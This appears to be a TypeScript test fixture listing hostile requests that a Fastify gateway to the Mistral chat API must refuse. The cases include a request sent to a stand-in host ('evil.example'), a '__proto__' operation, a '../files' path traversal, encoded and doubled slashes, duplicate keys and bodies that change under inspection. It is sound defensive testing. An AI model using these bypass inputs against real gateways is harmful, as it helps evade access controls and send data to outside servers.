import type { FastifyInstance } from 'fastify'
import type { Hostile } from './hostile-http.js'
import { sendRaw, statusesIn, writeRaw } from './raw-request.js'

const MODEL = 'mistral-small-latest'
const WHO = { id: 'trap' }
const ORIGIN = 'https://api.mistral.ai'
const PATH = '/v1/chat/completions'

const bodyOf = (says: string, more: object = {}) => ({
  model: MODEL,
  messages: [{ role: 'user', content: says }],
  ...more,
})

async function isServed(work: Promise<unknown>): Promise<boolean> {
  return work.then(
    answer => !(answer instanceof Response) || answer.ok,
    () => false,
  )
}

/** Says one thing to who looks first, and another to who looks again. */
function twoFaced(says: string): object {
  let looks = 0
  return {
    ...bodyOf(says),
    get messages() {
      return [{ role: looks++ === 0 ? 'user' : 'system', content: says }]
    },
  }
}

/** Code of the application's own that goes to the model: by the official client, as a job, and from a child context. */
export function hostileCode(app: FastifyInstance): readonly Hostile[] {
  const job = app.mistral.as(WHO)
  const call = (body: unknown, options = {}) => isServed(job.call('chat.complete', body, options).then(readWhole))
  const fetching = async (path: string, init: RequestInit = {}) => {
    const client = await job.httpClient()
    return isServed(client.request(new Request(path, { method: 'POST', ...init })).then(readResponse))
  }
  const json = { 'content-type': 'application/json' }
  const text = (says: string, more: object = {}) => JSON.stringify(bodyOf(says, more))

  const rows: [kind: string, mustRefuse: boolean, send: (says: string) => Promise<boolean>][] = [
    ['job: ordinary', false, says => call(bodyOf(says))],
    ['job: a stream', false, says => call(bodyOf(says, { stream: true }))],
    ['job: an unknown field', true, says => call(bodyOf(says, { shadow: 1 }))],
    ['job: an array for a string', true, says => call(bodyOf(says, { model: [MODEL] }))],
    ['job: a body that changes when it is looked at', false, says => call(twoFaced(says))],
    ['job: a body that is changed while it waits', false, says => changedMeanwhile(says, call)],
    ['job: a toJSON of its own', true, says => call({ ...bodyOf(says), toJSON: () => ({ model: 'other' }) })],
    ['job: text', true, says => call(text(says))],
    ['job: nothing', true, () => call(undefined)],
    ['job: another operation', true, says => isServed(job.call('files.upload', bodyOf(says)))],
    ['job: an operation of Object', true, says => isServed(job.call('__proto__', bodyOf(says)))],
    ['job: an upstream nobody knows', true, says => call(bodyOf(says), { upstream: 'other' })],
    ['job: a path for a model', true, () => isServed(job.call('models.get', null, { params: { model: '../files' } }))],
    ['job: nobody', true, says => isServed(app.mistral.as({ id: '' }).call('chat.complete', bodyOf(says)))],
    ['client: ordinary', false, says => sdkChat(app, bodyOf(says))],
    ['client: an array for a string', true, says => sdkChat(app, { ...bodyOf(says), model: [MODEL] })],
    ['client: another model', true, says => sdkChat(app, { ...bodyOf(says), model: 'other' })],
    [
      'client: another server',
      true,
      says => fetching(`https://evil.example${PATH}`, { headers: json, body: text(says) }),
    ],
    ['client: a query', true, says => fetching(`${ORIGIN}${PATH}?x=1`, { headers: json, body: text(says) })],
    ['client: two slashes', true, says => fetching(`${ORIGIN}/${PATH}`, { headers: json, body: text(says) })],
    [
      'client: an encoded slash',
      true,
      says => fetching(`${ORIGIN}/v1/chat%2fcompletions`, { headers: json, body: text(says) }),
    ],
    [
      'client: another method',
      true,
      says => fetching(ORIGIN + PATH, { method: 'PUT', headers: json, body: text(says) }),
    ],
    ['client: a form', true, says => fetching(ORIGIN + PATH, { body: new URLSearchParams({ says }) })],
    ['client: files', true, says => fetching(`${ORIGIN}/v1/files`, { headers: json, body: text(says) })],
    [
      'client: a key twice',
      false,
      says => fetching(ORIGIN + PATH, { headers: json, body: text(says).replace('{', '{"model":"other",') }),
    ],
    [
      'client: an encoded body',
      true,
      says =>
        fetching(ORIGIN + PATH, { headers: { ...json, 'content-encoding': 'gzip' }, body: `\u001f${text(says)}` }),
    ],
  ]
  return rows.map(([kind, mustRefuse, send]) => ({ kind, mustRefuse, send: (_target, says) => send(says) }))
}

async function changedMeanwhile(says: string, call: (body: unknown) => Promise<boolean>): Promise<boolean> {
  const body = bodyOf(says) as { model: unknown; messages: { content: unknown }[] }
  const called = call(body)
  body.model = ['other']
  body.messages[0]!.content = 'something else'
  return called
}

async function sdkChat(app: FastifyInstance, request: object): Promise<boolean> {
  const client = await app.mistral.as(WHO).sdk()
  return isServed(client.chat.complete(request as Parameters<typeof client.chat.complete>[0]))
}

async function readWhole(answer: { readonly kind: string }): Promise<void> {
  if (answer.kind !== 'stream') return
  for await (const _batch of (answer as unknown as { events: AsyncIterable<unknown> }).events);
}

async function readResponse(response: Response): Promise<Response> {
  await response.text()
  return response
}

/** Routes of a context of its own, which takes what the gateway's would not. */
export async function addOwnRoutes(app: FastifyInstance): Promise<void> {
  await app.register(async child => {
    child.removeAllContentTypeParsers()
    child.addContentTypeParser('*', { parseAs: 'string' }, (_request, body, done) => done(null, body))
    child.post('/own/loose', async ({ body, mistral }) => {
      const answer = await mistral.call('chat.complete', JSON.parse(String(body)))
      return answer.kind === 'json' ? answer.body : null
    })
    await child.register(async grandchild => {
      grandchild.post('/own/client', async ({ body, mistral }) => {
        const client = await mistral.sdk()
        return client.chat.complete(JSON.parse(String(body)) as Parameters<typeof client.chat.complete>[0])
      })
    })
  })
}

export const OWN_ROUTES: readonly Hostile[] = ['/own/loose', '/own/client'].flatMap(path =>
  [
    ['ordinary', false, {}],
    ['an array for a string', true, { model: [MODEL] }],
    ['another model', true, { model: 'other' }],
    ['a number for a text', true, { messages: [{ role: 'user', content: 7 }] }],
  ].map(([kind, mustRefuse, more]) => ({
    kind: `${path}: ${String(kind)}`,
    mustRefuse: mustRefuse === true,
    async send({ port, key }: { readonly port: number; readonly key: string }, says: string) {
      const body = JSON.stringify(bodyOf(says, more as object))
      const answer = await sendRaw(port, writeRaw(body, { path, type: 'text/odd', key }))
      return statusesIn(answer).some(status => status < 300)
    },
  })),
)
